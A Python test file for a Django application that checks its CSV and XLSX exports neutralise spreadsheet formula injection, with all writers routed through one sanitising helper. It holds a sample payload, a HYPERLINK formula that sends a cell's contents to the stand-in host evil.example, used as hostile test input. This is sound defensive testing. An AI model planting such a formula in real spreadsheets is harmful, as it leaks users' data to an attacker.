"""No CSV or XLSX that Heard writes carries a formula: one helper makes them all, and every
writer in the code goes through it."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from heard.core import spreadsheets
from heard.exchange.flat import write_templates
from tests.factories import CaseFactory, ServiceAreaFactory

HEARD = Path(__file__).resolve().parents[2] / "heard"
HELPER = HEARD / "core" / "spreadsheets.py"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
#: Ways of writing a CSV or XLSX file without the helper.
OWN_WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\s*\(|from openpyxl import[^\n]*\bWorkbook\b|openpyxl\.Workbook\b"
    r"|from openpyxl\.workbook"
)


def test_every_csv_and_xlsx_writer_uses_the_helper():
    offenders = [
        f"{path.relative_to(HEARD.parent)}: {match.group(0)}"
        for path in HEARD.rglob("*.py")
        if path != HELPER
        for match in OWN_WRITERS.finditer(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
    # and the check itself finds a writer that does not
    assert OWN_WRITERS.search("writer = csv.writer(out)")
    assert OWN_WRITERS.search("from openpyxl import Workbook, load_workbook")


@pytest.mark.parametrize("start", spreadsheets.FORMULA_STARTS)
def test_text_that_a_spreadsheet_would_run_is_neutralised(start):
    assert spreadsheets.safe_value(start + "1+1") == "'" + start + "1+1"


def test_numbers_dates_and_plain_text_are_left_alone():
    import datetime

    for value in (-5, 3.5, None, datetime.date(2024, 1, 1), "Fostering", "A-Z"):
        assert spreadsheets.safe_value(value) == value


def _formulas(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, read from the file itself."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_both_kinds_of_workbook_never_hold_a_formula():
    for write_only in (False, True):
        book = spreadsheets.Workbook(write_only=write_only)
        sheet = book.create_sheet("Hostile")
        sheet.append([FORMULA, "+1", 12])
        if not write_only:
            sheet["D1"] = "=1+1"
        out = io.BytesIO()
        book.save(out)
        assert _formulas(out.getvalue()) == []
        values = [c.value for c in load_workbook(io.BytesIO(out.getvalue()))["Hostile"][1]]
        assert values[:3] == ["'" + FORMULA, "'+1", 12]


@pytest.mark.django_db
def test_tracker_exports_write_a_hostile_team_name_as_text(client, personas):
    area = ServiceAreaFactory(name=FORMULA)
    CaseFactory(service_area=area)
    client.force_login(personas["manager"])
    url = reverse("cases:list")
    text = client.get(url, {"format": "csv", "view": "all"}).content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)]
    xlsx = client.get(url, {"format": "xlsx", "view": "all"}).content
    assert _formulas(xlsx) == []
    book = load_workbook(io.BytesIO(xlsx))
    values = [c.value for sheet in book for row in sheet.iter_rows() for c in row]
    assert "'" + FORMULA in values


def test_the_import_templates_hold_no_formula(tmp_path):
    for path in write_templates(tmp_path):
        if path.suffix == ".xlsx":
            assert _formulas(path.read_bytes()) == []
        else:
            cells = [c for row in csv.reader(path.open(encoding="utf-8")) for c in row]
            assert not [c for c in cells if c.startswith(spreadsheets.FORMULA_STARTS)]
